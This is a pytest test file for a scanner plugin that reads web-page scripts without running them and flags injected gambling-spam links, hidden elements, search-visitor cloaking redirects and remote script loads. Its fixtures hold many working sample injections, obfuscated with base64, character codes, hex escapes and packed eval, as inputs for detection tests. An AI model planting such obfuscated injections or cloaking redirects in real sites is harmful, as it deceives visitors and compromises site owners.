"""Scripts are read, never run; what they do to strange links is a hint."""

import base64

import pytest
from hypothesis import given
from hypothesis import strategies as st

from xuncha.model.outcome import Status
from xuncha.page.values import Script
from xuncha.testing import judge
from xuncha_plugins.darklinks.assembling import puzzle
from xuncha_plugins.darklinks.chosen import chosen
from xuncha_plugins.darklinks.decoding import spelled, unfolded
from xuncha_plugins.darklinks.link_checks import scripted
from xuncha_plugins.darklinks.literals import strings
from xuncha_plugins.darklinks.scripts import read

LINK = '<a href="http://www.bet1.example.com/">时时彩</a>'
WRITE = f"document.write('{LINK}')"
CODES = ",".join(str(ord(one)) for one in WRITE)
BASE64 = base64.b64encode(WRITE.encode()).decode()
HEX = "".join(f"\\x{ord(one):02x}" if ord(one) < 256 else f"\\u{ord(one):04x}" for one in LINK)
PERCENT = "".join(f"%u{ord(one):04x}" for one in LINK)
PACKED = (
    "eval(function(p,a,c,k,e,d){return p}('0.1(\\'<2 3=\"4://5.6.7/\">时时彩</2>\\')',8,8,"
    "'document|write|a|href|http|bet1|example|com'.split('|'),0,{}))"
)


@pytest.mark.parametrize(
    "script",
    [
        WRITE,
        f"var s='<div style=\"display:none\">';s+='{LINK}';document.write(s+'</div>')",
        f"document.write('{HEX}')",
        f"var _0=['{HEX}'];document['write'](_0[0])",
        f"eval(String.fromCharCode({CODES}))",
        f"eval(atob('{BASE64}'))",
        f"document.write(unescape('{PERCENT}'))",
        PACKED,
        f"document.getElementById('x').innerHTML='{LINK}'",
        f"var a=[{','.join(str(ord(one)) for one in LINK)}];document.write(String.fromCharCode.apply(null,a))",
        f"document.write('{LINK[::-1]}'.split('').reverse().join(''))",
        'document.write(\'<iframe src="https://www.xpj9988.com/" style="position:fixed"></iframe>\')',
        "var s=document.createElement('script');s.src='//js.'+'bet365'+'-tj.com/t.js';document.head.appendChild(s)",
        f"document.write(`{LINK}`)",
        f"document.body.innerHTML+=`<p>${{name}}</p>{LINK}`",
        f"document.body.insertAdjacentHTML('beforeend',`{LINK}`)",
        f"document['write']('{LINK}')",
        f"window['document']['wri'+'te']('{LINK}')",
        f"var d=document,w='write';d[w]('{LINK}')",
        f"window['\\x64ocument']['\\x77rite']('{LINK}')",
        f"document.\\u0077rite('{LINK}')",
        "var a=document.createElement('a');a.href='http://www.abc.top/';a.innerHTML='时时彩';document.body.append(a)",
        f"document.write(atob('{base64.b64encode(b'<script src=http://js.qp-7777.vip/a.js>').decode()}'))",
    ],
)
def test_links_that_a_script_writes_are_a_hint(page, plants, script):
    outcome = judge(scripted, plants(page(f"<script>{script}</script>")))
    assert [(found.key, found.status) for found in outcome.findings] == [("writes", Status.WARN)]


LOADED = "document.write('<script src=\\'http://js.tj-88.example.com/a.js\\'></'+'script>')"
ESCAPED = "".join(f"\\x{ord(one):02x}" for one in "https://js.abc.example.com/a.js")


@pytest.mark.parametrize(
    "script",
    [
        f"eval(String.fromCharCode({','.join(str(ord(one)) for one in LOADED)}))",
        f"eval(atob('{base64.b64encode(LOADED.encode()).decode()}'))",
        f"var _=['src','script','{ESCAPED}'];var s=document.createElement(_[1]);s[_[0]]=_[2];document.body.append(s)",
    ],
)
def test_what_is_loaded_by_codes_from_a_strange_host_is_asked_about(page, plants, script):
    outcome = judge(scripted, plants(page(f"<script>{script}</script>")))
    assert [(found.key, found.status) for found in outcome.findings] == [("assembled", Status.MANUAL)]


@pytest.mark.parametrize("size", ["width=0 height=0", "style='display:none' width=1 height=1"])
def test_a_frame_that_a_script_writes_and_nobody_sees_is_a_hint(page, plants, size):
    script = f"<script>document.writeln(\"<iframe src='http://www.sl-yx.com/x.htm' {size}></iframe>\")</script>"
    assert [found.key for found in judge(scripted, plants(page(script))).findings] == ["writes"]


@pytest.mark.parametrize(
    "frame",
    [
        "<iframe src='http://www.tianqi-yb.com/widget' width=250 height=60></iframe>",
        "<iframe src='/tongji/count.jsp' width=0 height=0></iframe>",
        "<iframe src='https://sso.sl-zwfw.com/login/check?silent=1' style='display:none'></iframe>",
        "<iframe src='http://kf.sl-im.com/webcall.php' width=0 height=0></iframe>",
    ],
)
def test_frames_that_offices_write_are_no_hint(page, plants, frame):
    assert judge(scripted, plants(page(f'<script>document.write("{frame}")</script>'))).status is Status.PASS


@pytest.mark.parametrize(
    "script",
    [
        "document.write(unescape(\"%3Cscript src='http://tongji.sl-it.example.com/c.js'%3E%3C/script%3E\"))",
        "var s=document.createElement('script');s.src='https://hm.baidu.com/hm.js?'+String.fromCharCode(97)",
        "var k=atob('eyJpZCI6MX0=');var s=document.createElement('script');s.src='//kf.sl-im.example.com/a.js'",
    ],
)
def test_counters_and_chats_that_are_loaded_as_usual_are_no_question(page, plants, script):
    assert judge(scripted, plants(page(f"<script>{script}</script>"))).status is Status.PASS


def test_a_script_that_hides_the_element_around_them_is_a_hint(page, plants, spam):
    markup = f'<div id="k">{spam}</div><script>document.getElementById("k").style.display="none";</script>'
    assert [found.key for found in judge(scripted, plants(page(markup))).findings] == ["hides"]


@pytest.mark.parametrize(
    "script",
    [
        "document.getElementById('k').style.cssText='position:absolute;top:-9999px'",
        "document.getElementById('k').setAttribute('style','opacity:0')",
        "document.querySelector('#k').style.display='none'",
        "var box=document.getElementById('k');box.style.visibility='hidden'",
        "document.write('<style>#k{font-size:0px}</style>')",
    ],
)
def test_other_ways_to_hide_it_are_known(page, plants, spam, script):
    markup = f'<div id="k">{spam}</div><script>{script}</script>'
    assert [found.key for found in judge(scripted, plants(page(markup))).findings] == ["hides"]


@pytest.mark.parametrize(
    ("script", "keys"),
    [
        ("if(/iPhone|Android/i.test(navigator.userAgent))location.replace('https://m.app8866.vip/')", ["sends"]),
        ("if(/iPhone|Android/i.test(navigator.userAgent))location.replace('https://m.sl-zwb.com/')", []),
        ("var s=document.createElement('script');s.src='//js.sl-tongji.com/t.js';document.head.appendChild(s)", []),
        ("var s=document.createElement('script');s.src='//cdn.sl-kefu.top/t.js';document.head.appendChild(s)", []),
    ],
)
def test_what_only_telephones_are_sent_to_and_what_is_loaded_hangs_on_the_name(page, plants, script, keys):
    outcome = judge(scripted, plants(page(f"<script>{script}</script>")))
    assert [found.key for found in outcome.findings] == keys


def test_jquery_hides_as_well(page, plants, spam):
    markup = f'<div id="k">{spam}</div><script>$("#k").hide()</script>'
    assert [found.key for found in judge(scripted, plants(page(markup))).findings] == ["hides"]


def test_an_element_written_open_around_them_is_a_hint(page, plants, spam):
    before = "<script>document.write('<div style=\"position:absolute;left:-4000px\">');</script>"
    after = "<script>document.write('</div>')</script>"
    assert [found.key for found in judge(scripted, plants(page(before + spam + after))).findings] == ["hides"]


@pytest.mark.parametrize(
    "script",
    [
        """var r=document.referrer;if(r.indexOf('baidu.com')!=-1){document.write('<iframe src="http://w.example.com/">')}""",
        """var e=["baidu","sogou"],r=document.referrer;for(i in e)if(r.indexOf(e[i])>0)location="http://w.example.com/";""",
        'if(document.referrer.indexOf("baidu")>0){window.location.href="http://www.888.vip/"}',
        "if(/baiduspider|sogou/i.test(navigator.userAgent)){document.write('x');location='http://w.example.com/'}",
    ],
)
def test_visitors_from_searches_who_are_sent_away_are_a_hint(page, plants, script):
    assert [found.key for found in judge(scripted, plants(page(f"<script>{script}</script>"))).findings] == [
        "searchers"
    ]


def test_a_delayed_jump_to_a_host_that_says_spam_is_a_hint(page, plants):
    script = """setTimeout("window.location='http://www.bet365-1.example.com/'", 3000)"""
    assert [found.key for found in judge(scripted, plants(page(f"<script>{script}</script>"))).findings] == ["sends"]


@pytest.mark.parametrize(
    "script",
    [
        'document.write(\'<div id="menu" style="display:none"><a href="/zwgk/">政务公开</a></div>\')',
        "document.write(unescape('%3Cscript src=\"https://hm.baidu.com/h.js?x\"%3E%3C/script%3E'))",
        "if(/Android|iPhone/i.test(navigator.userAgent)){location.href='http://m.a.gov.example/'}",
        "document.getElementById('tab2').style.display='none';document.getElementById('tab1').style.display='block';",
        "setTimeout(\"window.location='http://new.a.gov.example/'\", 5000)",
        "var links=['http://www.company.com/','http://www.bank.com.cn/'];window.open(links[0]);",
        "eval(function(p,a,c,k,e,d){return p}('0.1()',2,2,'window|print'.split('|'),0,{}))",
        "var _hmt=_hmt||[];(function(){var hm=document.createElement('script');hm.src='https://hm.baidu.com/hm.js?1';})();",
        'document.write(\'<a href="http://www.company.com/" target="_blank">技术支持</a>\')',
    ],
)
def test_what_honest_scripts_do_is_no_hint(page, plants, script):
    assert judge(scripted, plants(page(f"<script>{script}</script>"))).status is Status.PASS


@pytest.mark.parametrize(
    "before",
    [
        f"<script>/*{'x' * 70_000}*/",
        f"<script>{'var a1=1;' * 20_000}",
        "<script>" + 'a("x");' * 8_000,
        "<script>" + 'a("x"+"y");' * 8_000,
        "<script>var a=1;</script>" * 200 + "<script>",
    ],
)
def test_scripts_are_read_to_their_end(page, plants, before):
    assert [one.key for one in judge(scripted, plants(page(f"{before}{WRITE}</script>"))).findings] == ["writes"]


@pytest.mark.parametrize(
    "markup",
    [
        f"<script>{'var a1=1;' * 30_000}{WRITE}</script>",
        "<script>var a=1;</script>" * 1_001,
        "<script>" + '"",' * 80_000 + "document.write('//')</script>",
        f"{'<div>' * 600}<script>{WRITE}</script>",
        "<script>" + "a.src='//'+b;" * 2_001 + "</script>",
        "<script>" + "".join(f"n{at}='x';" for at in range(2_001)) + "a.src='//'+b</script>",
    ],
)
def test_what_is_more_than_is_read_leaves_it_open(page, plants, markup):
    outcome = judge(scripted, plants(page(markup)))
    assert (outcome.status, outcome.reason.code) == (Status.INCONCLUSIVE, "too-large")


def test_a_large_script_that_does_nothing_is_no_reason_for_doubt(page, plants):
    assert judge(scripted, plants(page(f"<script>var data=[{'12345,' * 60_000}]</script>"))).status is Status.PASS


@pytest.mark.parametrize(
    "script",
    [
        "window['\\x6c\\x6f\\x63ation']='http://www.hgty8866.top/'",
        "window['loc'+'ation']['hr'+'ef']='//x.evil77.top/'",
        "var l='loca'+'tion';window[l].href='http://x.evil77.top/'",
    ],
)
def test_a_jump_whose_statement_is_disguised_is_a_hint(page, plants, script):
    assert [one.key for one in judge(scripted, plants(page(f"<script>{script}</script>"))).findings] == ["sends"]


def test_the_shortest_scripts_are_read_first():
    scripts = (Script("", "", "'//'.open" + " " * 200_000, 1), Script("", "", "'//'.open" + " " * 100_000, 2))
    assert [one.line for one in chosen(scripts).scripts] == [2]


def test_names_are_spelled_as_they_are_usually_written():
    assert spelled("var w='wri'+'te';document[w](x[0]);self['lo'+'cation']").endswith(
        "document.write(x[0]);self.location"
    )


def test_a_site_that_was_hardly_seen_is_not_cleared(page, plants, half_seen):
    assert judge(scripted, plants(page()), crawl=half_seen).status is Status.INCONCLUSIVE


@given(st.text(max_size=300))
def test_any_script_is_read_to_an_end(script):
    assert sum(len(text) for text, _ in unfolded(script).pieces) <= 4 * len(script) + 10


@pytest.mark.parametrize(
    "script",
    [
        "'" * 60_000,
        '"+' * 30_000,
        "fromCharCode(" * 5_000,
        "'\\x41" * 12_000,
        "atob('" + "QUFB" * 10_000,
        '"' + '\\"' * 100_000,
        "`" + "\\`" * 100_000,
        "test referrer location=" + "['" * 100_000,
        f"a='x';b={'+'.join('a' * 1_900)};" + f".src=b+b{'+b' * 1_900};" * 60,
    ],
)
def test_a_hostile_script_is_read_to_an_end(script):
    assert read(f"document.write('//')//\n{script}", "http://www.gov.example/") is not None


def test_a_line_that_goes_on_belongs_to_its_string():
    assert list(strings("'http:\\\n//a.example'")) == ["http://a.example"]


def test_strings_are_joined_and_unescaped():
    assert list(strings(r"""a='\x3ca' + "\u0020b" + '\'c'; b='d'""")) == ["<a b'c", "d"]


def source(value):
    return f"var s=document.createElement('script');s.src={value};document.body.appendChild(s)"


LETTERS = "".join(f"\\x{ord(one):02x}" for one in "//tj.abcq.com/x.js")


@pytest.mark.parametrize(
    "script",
    [
        source("'//'+'tj.a'+'bcq.com/x.js'"),
        source(f"'{LETTERS}'"),
        source("['//tj','.ab','cq.com','/x.js'].join('')"),
        source("'sj.x/moc.qcba.jt//'.split('').reverse().join('')"),
        source("'//tj#.abcq.com/x.js'.replace('#','')"),
        source("String.fromCharCode(47,47,116,106,46,97,98,99,113,46,99,111,109,47,120)"),
        "var a='//tj.a',b='bcq.com';" + source("''+a+b+'/x.js'"),
        f"var _0x1a=['\\x73\\x63\\x72\\x69\\x70\\x74','{LETTERS}'];" + source("_0x1a[1]"),
        f"var _0x=['createElement','script','src','{LETTERS}'];var e=document[_0x[0]](_0x[1]);e[_0x[2]]=_0x[3];",
        source("_0x3f2a('0x1')"),
        source("'//'+['js','abcq','com'].join('.')+'/t.js'"),
        source("['https:','','tj.abcq.com','x.js'].join('/')"),
        "const h='bcq.com';" + source("`//tj.a${h}/x.js`"),
    ],
)
def test_what_loads_an_address_made_of_pieces_is_asked_about(page, plants, script):
    outcome = judge(scripted, plants(page(f"<script>{script}</script>")))
    assert [(found.key, found.status) for found in outcome.findings] == [("assembled", Status.MANUAL)]


@pytest.mark.parametrize(
    "script",
    [
        r"""window["\x64\x6f\x63\x75\x6d\x65\x6e\x74"]["\x77\x72\x69\x74\x65"]('<script src="https://www.\x74\x6a\x38\x38\x39.top/t.js"></'+'script>')""",
        source("'//js.t'+'j889.top/t.js'"),
        source("['//js.tj','889.top/t.js'].join('')"),
    ],
)
def test_where_the_name_is_odd_as_well_it_is_a_hint(page, plants, script):
    outcome = judge(scripted, plants(page(f"<script>{script}</script>")))
    assert [(found.key, found.status) for found in outcome.findings] == [("writes", Status.WARN)]


@pytest.mark.parametrize(
    "script",
    [
        source("'//'+'www.'+'sl-tongji.com'+'/t.js'"),
        source("('https:'==location.protocol?'https://':'http://')+'kf.sl-kefu.com/t.js'"),
        source("'https://hm.ba'+'idu.com/hm.js?1'"),
        "const h='kf.sl-kefu.com';" + source("`https://${h}/x.js`"),
        source("`https://${h}/x.js`"),
        "window['location']['href']='https://www.sl-fuwu.com/'",
        "var words=['百家乐','六合彩'];var a=document.createElement('a');a.href='/list.html';a.innerHTML='更多'",
        "var a=document.createElement('a');a.href='https://www.sl-fuwu.com/';a.innerHTML='技术支持'",
        source("base+['a','b'].join('/')+'.js'"),
        r"document.write('\x3Cscript src=\x22//cdn.sl-tongji.com/t.js\x22>\x3C/script>')",
        "document.write('<scr'+'ipt src=\"http://kf.sl-kefu.com/t.js\"></scr'+'ipt>')",
        "var s='中\\u6587'+'//';" + source("'/js/a.js'"),
        "var u='http://www.a'+'bc.com/list';$('#more').attr('href',u)",
    ],
)
def test_how_honest_scripts_load_is_no_question(page, plants, script):
    assert judge(scripted, plants(page(f"<script>{script}</script>"))).status is Status.PASS


@pytest.mark.parametrize(
    "script",
    [
        "a0='x';" + "".join(f"a{at + 1}=''+a{at}+a{at};" for at in range(150)),
        source("[" * 3_000),
        source("(" * 3_000),
        source("'a'.replace('a','" + "b" * 3_000 + "')" + ".replace('b','" + "c" * 900 + "')"),
        source("'" + "a" * 900 + "'.split('').join('" + "b" * 900 + "')") * 60,
    ],
)
def test_a_hostile_puzzle_is_read_to_an_end(script):
    assert puzzle(script).addresses == ()


@given(st.text(alphabet="ab'\"+.[](),=;0x\\src ", max_size=200))
def test_any_puzzle_is_read_to_an_end(text):
    assert isinstance(puzzle(source(text)).unsolved, bool)


ENGINES = "if(document.referrer&&/so\\.com|baidu/.test(document.referrer)){sessionStorage.f=1}"
ROBOT = "var isBot=/baiduspider|googlebot/i.test(navigator.userAgent);"


@pytest.mark.parametrize(
    "script",
    [
        f"{ENGINES} function goBack(){{location.href='https://www.sl-rm.com/list'}}",
        f"{ROBOT}if(!isBot&&/Mobile/i.test(navigator.userAgent)){{location.href='https://m.sl-rm.com/'}}",
        "if(!/spider|bot/i.test(navigator.userAgent)&&/Mobile/.test(navigator.userAgent))location='https://m.sl-rm.com/'",
    ],
)
def test_functions_that_wait_and_robots_that_are_spared_are_no_hint(page, plants, script):
    assert judge(scripted, plants(page(f"<script>{script}</script>"))).status is Status.PASS


@pytest.mark.parametrize(
    "script",
    [
        f"{ENGINES} function go(){{location.href='https://www.sl-rm.com/list'}} go()",
        f"{ENGINES} function go(){{location.href='https://www.sl-rm.com/list'}} setTimeout('go()',9)",
        "function go(){if(/baidu/.test(document.referrer))location.href='https://www.sl-rm.com/list'}",
        f"{ROBOT}if(isBot){{location.href='https://m.sl-rm.com/'}}",
        f"{ROBOT}if(!isBot&&/baidu/.test(document.referrer)&&/Mobile/.test(navigator.userAgent))location='http://a-b.com/'",
    ],
)
def test_whom_they_do_send_away_is_still_seen(page, plants, script):
    outcome = judge(scripted, plants(page(f"<script>{script}</script>")))
    assert [found.key for found in outcome.findings] == ["searchers"]


def test_a_script_in_an_address_is_read_like_any_other(page, plants):
    script = f'<script src="data:text/javascript;base64,{BASE64}"></script>'
    assert [found.key for found in judge(scripted, plants(page(script))).findings] == ["writes"]
